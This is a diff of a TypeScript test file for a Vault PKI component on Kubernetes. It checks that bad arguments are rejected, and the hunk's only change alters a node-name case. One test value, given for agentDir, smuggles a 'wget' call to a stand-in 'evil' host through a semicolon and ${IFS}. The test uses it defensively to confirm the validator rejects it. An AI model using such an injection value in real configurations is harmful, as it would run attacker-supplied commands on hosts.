@@ -136,7 +136,7 @@ describe("VaultPki on Kubernetes (emulated @pulumi/vault)", () => {
         ["a root sidecar", { ...args, vault: { ...args.vault, kubernetes: { ...args.vault.kubernetes!, runAsUser: 0 } } }, "vault.kubernetes.runAsUser", /non-root/],
         ["an auth path Vault cannot mount", { ...args, vault: { ...args.vault, kubernetes: { ...args.vault.kubernetes!, path: "/kubernetes/" } } }, "vault.kubernetes.path", /mount path/],
         ["an unknown kubernetes option", { ...args, vault: { ...args.vault, kubernetes: { ...args.vault.kubernetes!, serviceAccount: "consul-servers" } } }, "vault.kubernetes.serviceAccount", /not an option here/],
-        ["a node name Kubernetes takes as no service account", { ...args, servers: [{ nodeName: "Consul_Server_1" }] }, "servers[0].nodeName", /service account/],
+        ["a node name Kubernetes takes as no service account", { ...args, servers: [{ nodeName: "Consul-Server-1" }] }, "servers[0].nodeName", /service account/],
         ["an agentDir the sidecar's shell would read as a command", { ...args, agentDir: "/vault/config;wget${IFS}evil" }, "agentDir", /plain absolute directory path/],
         ["a Vault CA with plain http", { ...args, vault: { address: "http://127.0.0.1:8200", vaultCaPem: caPem } }, "vault.vaultCaPem", /plain http/],
     ];
